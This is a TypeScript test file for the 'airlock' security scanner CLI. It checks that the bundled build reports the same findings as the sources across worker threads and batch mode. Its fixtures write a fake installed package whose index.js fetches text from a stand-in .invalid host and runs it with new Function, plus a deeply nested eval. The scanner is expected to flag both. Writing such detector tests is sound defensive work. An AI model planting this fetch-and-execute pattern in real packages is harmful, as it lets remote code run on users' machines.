/**
 * The built CLI as installed: dist/cli/main.js and the worker threads' modules are bundled by
 * scripts/bundle.mjs. Each must report exactly what the sources report, through every kind of
 * worker: the installed-files pass (a node_modules of over a thousand files), the big-stack parse
 * (deeply nested code) and batch mode (several targets).
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { after, describe, it } from 'node:test';
import { runAirlock } from '../helpers/cli.ts';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const BUILT = join(ROOT, 'dist/cli/main.js');
const CLEAN = join(ROOT, 'examples/clean-app');
const tmp = mkdtempSync(join(tmpdir(), 'airlock-built-'));
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

const run = promisify(execFile);

async function runBuilt(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const r = await run(process.execPath, [BUILT, ...argv], { cwd: ROOT, env: { ...process.env, NO_COLOR: '1' }, maxBuffer: 64 << 20 });
    return { code: 0, stdout: r.stdout, stderr: r.stderr };
  } catch (err) {
    const e = err as { code?: number; signal?: string; stdout?: string; stderr?: string };
    return { code: e.code ?? -1, stdout: e.stdout ?? '', stderr: `${e.stderr ?? ''}${e.signal ? ` (killed by ${e.signal})` : ''}` };
  }
}

/** The report, or the reports of batch mode (one JSON document per line), without timings and start times. */
function comparable(output: string): unknown[] {
  const parse = (json: string): unknown =>
    JSON.parse(json, (key, value: unknown) => (key === 'timing' || key === 'createdAt' ? undefined : value));
  const lines = output.split('\n').filter(line => line.trim() !== '');
  return lines.length > 1 && lines.every(line => line.startsWith('{') && line.endsWith('}')) ? lines.map(parse) : [parse(output)];
}

function targetPath(report: unknown): string {
  return (report as { target: { path: string } }).target.path;
}

// Inert shapes: endpoints under .invalid, nothing here runs.
const tree = join(tmp, 'repo');
mkdirSync(join(tree, 'server'), { recursive: true });
writeFileSync(
  join(tree, 'package.json'),
  JSON.stringify({ name: 'built-test', version: '1.0.0', scripts: { dev: 'node server/deep.js' } }),
);
writeFileSync(
  join(tree, 'server', 'deep.js'),
  `var r = fetch('https://cfg.example.invalid/x'); eval(${'['.repeat(30_000)}r${']'.repeat(30_000)});\n`,
);
for (let i = 0; i < 1100; i++) {
  const dir = join(tree, 'node_modules', `pkg${i % 40}`);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, `f${i}.js`), `exports.v${i} = ${i};\n`);
}
mkdirSync(join(tree, 'node_modules', 'loader'), { recursive: true });
writeFileSync(join(tree, 'node_modules', 'loader', 'package.json'), JSON.stringify({ name: 'loader', version: '1.0.0' }));
writeFileSync(
  join(tree, 'node_modules', 'loader', 'index.js'),
  "const r = await fetch('https://cfg.example.invalid/x');\nnew Function('require', await r.text())(require);\n",
);

describe('the built CLI', { skip: existsSync(BUILT) ? false : 'run `npm run build` first' }, () => {
  it('reports what the sources report, with installed files and deeply nested code in worker threads', async () => {
    const argv = ['scan', tree, '--include-node-modules', '--no-provenance', '--format', 'json', '--fail-on', 'never'];
    const built = await runBuilt(argv);
    assert.equal(built.code, 0, built.stderr);
    const source = await runAirlock(argv);
    assert.deepEqual(comparable(built.stdout), comparable(source.stdout));
    const report = JSON.parse(built.stdout) as { findings: { ruleId: string; location: { file: string } }[]; errors: unknown[] };
    const code = (file: string): string[] => report.findings.filter(f => f.location.file === file).map(f => f.ruleId);
    assert.ok(code('server/deep.js').includes('code/dynamic-code'), 'the nested file was analysed (big-stack worker)');
    assert.ok(
      code('node_modules/loader/index.js').includes('code/remote-code-execution'),
      'the installed loader was analysed (installed-files workers)',
    );
    assert.deepEqual(report.errors, []);
  });

  it('scans several targets in batch mode as the sources do', async () => {
    const argv = ['scan', CLEAN, join(ROOT, 'examples/take-home-lure'), '--no-provenance', '--format', 'json', '--fail-on', 'never'];
    const built = await runBuilt(argv);
    assert.equal(built.code, 0, built.stderr);
    const source = await runAirlock(argv);
    // Batch mode prints each report as its target finishes: compare them in target order.
    const byTarget = (out: string): unknown[] => comparable(out).sort((a, b) => targetPath(a).localeCompare(targetPath(b)));
    const reports = byTarget(built.stdout);
    assert.equal(reports.length, 2);
    assert.deepEqual(reports, byTarget(source.stdout));
  });
});
